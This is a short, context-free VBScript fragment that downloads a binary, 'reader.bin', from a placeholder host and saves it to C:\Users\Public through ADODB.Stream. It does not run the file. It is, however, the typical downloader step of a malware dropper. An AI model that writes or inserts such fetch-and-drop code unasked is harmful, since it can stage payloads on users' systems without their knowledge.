Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "https://downloads.example/reader.bin", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.responseBody
stream.SaveToFile "C:\Users\Public\reader.bin", 2
